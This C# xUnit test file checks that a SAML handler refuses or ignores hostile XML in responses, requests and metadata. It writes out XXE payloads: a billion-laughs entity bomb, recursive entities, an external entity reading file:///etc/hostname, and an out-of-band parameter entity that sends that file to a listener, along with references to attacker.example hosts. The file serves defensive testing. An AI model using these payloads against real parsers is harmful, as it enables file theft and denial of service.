using System.Text;
using System.Xml.Linq;
using ContextHandler.Saml.Metadata;
using ContextHandler.Testing;
using ContextHandler.Testing.Attacks;
using ContextHandler.Testing.Federation;

namespace ContextHandler.FunctionalTests.Attacks;

/// <summary>XML that would have its reader expand, include or fetch something: in every kind of message, and in metadata.</summary>
public class ExternalTextTests(AttackStage stage) : IClassFixture<AttackStage>
{
    private const string File = "file:///etc/hostname";
    private const string Include = "http://www.w3.org/2001/XInclude";
    private const string SchemaInstance = "http://www.w3.org/2001/XMLSchema-instance";

    // Of the address of a listener, each declares an entity e.
    private static readonly Dictionary<string, Func<string, string>> Doctypes = new()
    {
        ["an entity"] = _ => "<!DOCTYPE r [<!ENTITY e \"x\">]>",
        ["entities that multiply"] = _ => Laughs(),
        ["entities in a circle"] = _ => "<!DOCTYPE r [<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">]>",
        ["a large entity"] = _ => $"<!DOCTYPE r [<!ENTITY e \"{new string('x', 50_000)}\">]>",
        ["a file"] = _ => $"<!DOCTYPE r [<!ENTITY e SYSTEM \"{File}\">]>",
        ["an address"] = url => $"<!DOCTYPE r [<!ENTITY e SYSTEM \"{url}\">]>",
        ["a name to look up"] = _ => "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://entity.attacker.example/e\">]>",
        ["a parameter entity"] = url => $"<!DOCTYPE r [<!ENTITY % p SYSTEM \"{url}\"> %p;]>",
        ["a file sent to an address"] = url => $"<!DOCTYPE r [<!ENTITY % f SYSTEM \"{File}\"><!ENTITY % p \"<!ENTITY &#37; s SYSTEM '{url}?%f;'>\"> %p; %s;]>",
        ["an external subset"] = url => $"<!DOCTYPE r SYSTEM \"{url}\">",
        ["a public identifier"] = url => $"<!DOCTYPE r PUBLIC \"-//R//R\" \"{url}\">",
    };

    public static TheoryData<string> Names => [.. Doctypes.Keys];

    public static MatrixTheoryData<string, Form> NamesInEachForm => new(Doctypes.Keys, Forms.All);

    [Theory]
    [MemberData(nameof(NamesInEachForm))]
    public async Task D01_a_document_type_on_a_response(string what, Form form)
    {
        using var trap = new Trap();
        using var login = await stage.BeginAsync();

        await login.RefusedAsync(Doctypes[what](trap.Url()) + Using(AttackedLogin.Text(login.Genuine(form))), "XmlMalformed");
        await login.AcceptedAsync(form);
        Assert.False(trap.WasSprung);
    }

    [Theory]
    [MemberData(nameof(Names))]
    public async Task D01_a_document_type_on_a_request(string what)
    {
        using var trap = new Trap();
        foreach (var byPost in new[] { false, true })
        {
            using var request = new AttackedRequest(stage.Federation, new() { ByPost = byPost });

            await request.RefusedAsync(
                stage.Federation.System.Request(new() { ByPost = byPost, EditText = text => Doctypes[what](trap.Url()) + Using(text) }), "XmlMalformed");
            await request.AcceptedAsync();
        }

        Assert.False(trap.WasSprung);
    }

    [Theory]
    [MemberData(nameof(Names))]
    public void D01_a_document_type_on_metadata(string what)
    {
        using var trap = new Trap();
        var good = new IdpPlan("korsbaek", "OIOSAML3").Metadata;
        var bad = Doctypes[what](trap.Url()) + Edited.InText(good, "GivenName", 0, "&e;");

        Assert.Throws<MetadataException>(() => MetadataReader.ReadAll(Encoding.UTF8.GetBytes(bad)));
        Assert.Single(MetadataReader.ReadAll(Encoding.UTF8.GetBytes(good)));
        Assert.False(trap.WasSprung);
    }

    [Theory]
    [EachForm]
    public async Task D01_an_inclusion_in_a_signed_value(Form form)
    {
        using var trap = new Trap();
        using var login = await stage.BeginAsync();
        foreach (var href in new[] { File, trap.Url() })
        {
            foreach (var parse in new[] { "text", "xml" })
            {
                var attack = login.Genuine(form, AttackedLogin.Good with
                {
                    EditAssertion = assertion => assertion.Descendants(Wire.Assertion + "AttributeValue").First().ReplaceNodes(Inclusion(href, parse)),
                });

                login.SignatureHolds(attack);
                await login.RefusedAsync(attack, "FieldMalformed");
            }
        }

        await login.AcceptedAsync(form);
        Assert.False(trap.WasSprung);
    }

    /// <summary>Nobody validates by a schema that the sender names: the attribute says nothing to us, and Extensions are not looked into.</summary>
    [Theory]
    [EachForm]
    public async Task D01_a_schema_location_and_an_inclusion_where_nobody_looks_are_inert(Form form)
    {
        using var trap = new Trap();
        using var login = await stage.BeginAsync();
        var located = new XAttribute(XName.Get("schemaLocation", SchemaInstance), $"{Wire.Protocol} {trap.Url()} {Wire.Assertion} http://schema.attacker.example/a.xsd");
        var genuine = login.Genuine(form, AttackedLogin.Good with
        {
            EditAssertion = assertion => assertion.Add(located),
            EditResponse = response =>
            {
                response.Add(located, new XAttribute(XName.Get("noNamespaceSchemaLocation", SchemaInstance), trap.Url()));
                response.Element(Wire.Protocol + "Status")!.AddBeforeSelf(new XElement(Wire.Protocol + "Extensions", Inclusion(trap.Url(), "xml")));
            },
        });

        await login.AcceptedAsync(genuine);
        Assert.False(trap.WasSprung);
    }

    private static string Using(string text) => Edited.InText(text, "Issuer", 0, "&e;");

    private static XElement Inclusion(string href, string parse) =>
        new(XName.Get("include", Include), new XAttribute("href", href), new XAttribute("parse", parse));

    private static string Laughs()
    {
        var doctype = new StringBuilder("<!DOCTYPE r [<!ENTITY l0 \"ha\">");
        for (var level = 1; level <= 10; level++)
        {
            doctype.Append(null, $"<!ENTITY l{level} \"{string.Concat(Enumerable.Repeat($"&l{level - 1};", 10))}\">");
        }

        return doctype.Append("<!ENTITY e \"&l10;\">]>").ToString();
    }
}
